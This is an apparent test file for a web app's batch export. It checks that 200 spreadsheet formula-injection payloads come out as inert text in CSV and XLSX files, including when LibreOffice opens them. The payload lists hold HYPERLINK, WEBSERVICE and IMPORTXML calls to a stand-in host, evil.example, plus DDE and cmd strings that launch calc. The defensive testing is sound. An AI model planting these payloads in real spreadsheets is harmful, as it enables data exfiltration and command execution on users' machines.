import { execFile } from 'node:child_process'
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { test } from '@japa/runner'
import { parse } from 'csv-parse/sync'
import readExcelFile from 'read-excel-file/node'
import { ZipArchive } from '#core/zip'
import type User from '#models/user'
import { makeMember, makeTenant } from '#tests/helpers'
import { sessionCookie } from '#tests/session_client'
import { BASE } from '#tests/support/actors'
import { makeBatch, workOffIn } from '../support/batches.js'

const run = promisify(execFile)

const STARTS = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  ' =',
  '＝',
  '＋',
  '－',
  '＠',
  '"=',
  "'=",
  ';=',
  ',=',
]
const BODIES = [
  '1+1',
  'SUM(1,2)',
  'HYPERLINK("http://evil.example/?x="&A1,"click")',
  "cmd|' /C calc'!A0",
  'DDE("cmd";"/C calc";"x")',
  'WEBSERVICE("http://evil.example/")',
  'IMPORTXML("http://evil.example","//a")',
  'A1',
  'NOW()',
  '2^10',
  '{1;2}',
  '1&"x"',
  "MSEXCEL|'\\..\\calc.exe'!''",
  'T(A1)',
]
const PAYLOADS = [...STARTS.flatMap((start) => BODIES.map((body) => `${start}${body}`))].slice(
  0,
  200
)

const cell = (text: string) => `"${text.replaceAll('"', '""')}"`

async function makeHostileBatch() {
  const tenant = await makeTenant()
  const { user } = await makeMember(tenant, 'mining_site_owner')
  const good = PAYLOADS.map((payload) => `${cell(payload)},S21,1,0.05`)
  const bad = PAYLOADS.map((payload) => `${cell(payload)},${cell(payload)},1,0.05`)
  const text = ['name,model,count,electricity', ...good, ...bad].join('\n')
  const id = await makeBatch(tenant, text)
  await workOffIn(tenant, id)
  return { user, path: `/calculator/batches/${id}` }
}

async function download(user: User, path: string) {
  const { name, value } = await sessionCookie(user)
  const answer = await fetch(BASE + path, { headers: { cookie: `${name}=${value}` } })
  if (answer.status !== 200) throw new Error(`${path}: ${answer.status}`)
  return Buffer.from(await answer.arrayBuffer())
}

const FORMULA = /^[=+\-@\t\r＝＋－＠]/

test.group('Files of a batch', () => {
  test('hold 200 formula payloads as text, cell by cell', async ({ assert }) => {
    assert.lengthOf(PAYLOADS, 200)
    const { user, path } = await makeHostileBatch()
    const get = (file: string) => download(user, `${path}/${file}`)
    const lines = async (file: string): Promise<string[][]> =>
      parse(await get(file), { bom: true, relax_column_count: true }).slice(1)

    const names = (await lines('results.csv')).map(([, name]) => name!)
    assert.lengthOf(names, 200)
    for (const [index, name] of names.entries()) {
      assert.notMatch(name, FORMULA)
      assert.include(name, PAYLOADS[index]!.trim().slice(1))
    }
    const refused = await lines('faults.csv')
    assert.lengthOf(refused, 200)
    for (const line of refused) for (const text of line.slice(1)) assert.notMatch(text, FORMULA)

    const xlsx = await get('results.xlsx')
    assert.isAbove(xlsx.length, 1000)
    const sheet = await new ZipArchive(xlsx, 1e8).text('xl/worksheets/sheet1.xml')
    assert.notMatch(sheet, /<f[ >]/)
    const { data } = (await readExcelFile(xlsx))[0]!
    assert.deepEqual(
      data.slice(1).map(([, name]) => String(name)),
      PAYLOADS.map((payload) => payload.trim().replaceAll('\r', '\n'))
    )
    assert.typeOf(data[1]![8], 'number')
  })

  test('evaluate nothing in LibreOffice', async ({ assert }) => {
    const office = await run('soffice', ['--version']).catch(() => null)
    if (!office) {
      console.log('    skipped: there is no LibreOffice (soffice) on this machine')
      return
    }
    const { user, path } = await makeHostileBatch()
    const folder = await mkdtemp(join(tmpdir(), 'hashinsight-office-'))
    try {
      const converted = async (name: string, bytes: string | Buffer) => {
        await writeFile(join(folder, name), bytes)
        const home = `-env:UserInstallation=file://${join(folder, 'profile')}`
        const out = join(folder, 'out')
        const args = [home, '--headless', '--convert-to', 'fods', '--outdir', out]
        await run('soffice', [...args, join(folder, name)])
        return readFile(join(out, name.replace(/\.\w+$/, '.fods')), 'utf8')
      }
      assert.include(await converted('control.csv', 'a\n=1+1\n'), 'table:formula=')
      for (const kind of ['csv', 'xlsx']) {
        const bytes = await download(user, `${path}/results.${kind}`)
        const sheet = await converted(`${kind}-results.${kind}`, bytes)
        assert.notInclude(sheet, 'table:formula=')
        assert.include(sheet, 'cmd|')
        assert.notMatch(sheet, /office:value-type="error"/)
      }
    } finally {
      await rm(folder, { recursive: true, force: true })
    }
  }).timeout(120_000)
})
